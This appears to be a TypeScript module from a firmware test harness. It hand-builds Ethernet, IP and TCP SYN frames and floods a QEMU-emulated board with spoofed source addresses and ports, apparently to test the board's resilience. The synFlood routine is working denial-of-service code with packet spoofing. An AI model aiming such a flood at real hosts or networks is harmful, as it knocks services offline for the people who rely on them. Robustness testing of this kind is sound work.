/** Frames on an emulated unit's wire, from a station that is nobody: what an operating system would not send. */
import { concat } from "#base/bytes.ts";
import type { Running, Target } from "./attack.ts";

/** The emulated board's address and hardware address (QEMU's network, firmware/main/main.c). */
const UNIT_IP = Uint8Array.of(10, 0, 2, 15);
const UNIT_MAC = Uint8Array.of(0x52, 0x54, 0, 0x12, 0x34, 0x56);
const OWN_MAC = Uint8Array.of(2, 0, 0, 0, 0, 66);

const u16 = (value: number) => Uint8Array.of(value >> 8, value & 255);

/** The checksum of RFC 1071. */
function checksum(...parts: readonly Uint8Array[]): Uint8Array {
  const bytes = concat(...parts);
  let sum = 0;
  for (let i = 0; i < bytes.length; i += 2) sum += ((bytes[i] as number) << 8) | (bytes[i + 1] ?? 0);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >> 16);
  return u16(~sum & 0xffff);
}

/** A SYN from an address of the unit's own subnet, in an Ethernet frame. */
function syn(from: Uint8Array, fromPort: number, toPort: number, sequence: number): Uint8Array {
  const tcp = concat(u16(fromPort), u16(toPort), u16(sequence >> 16), u16(sequence & 0xffff), u16(0), u16(0));
  const rest = (sum: Uint8Array) => concat(tcp, Uint8Array.of(0x50, 0x02), u16(4096), sum, u16(0));
  const segment = rest(checksum(from, UNIT_IP, u16(6), u16(20), rest(u16(0))));
  const head = (sum: Uint8Array) =>
    concat(Uint8Array.of(0x45, 0), u16(40), u16(1), u16(0), Uint8Array.of(64, 6), sum, from, UNIT_IP);
  return concat(UNIT_MAC, OWN_MAC, u16(0x0800), head(checksum(head(u16(0)))), segment);
}

/** A few hundred SYNs a second, each from another address and port, none of which ever answers. */
export function synFlood({ wire, port }: Target): Running {
  if (wire === undefined) throw new Error("only an emulated board has a wire");
  let sent = 0;
  wire.resume();
  const timer = setInterval(() => {
    for (let i = 0; i < 2; i++) {
      const from = Uint8Array.of(10, 0, 2, 100 + (sent % 100));
      const frame = syn(from, 1024 + (sent % 60_000), port, sent);
      wire.write(concat(u16(0), u16(frame.length), frame));
      sent++;
    }
  }, 5);
  return { sent: () => sent, stop: () => clearInterval(timer) };
}
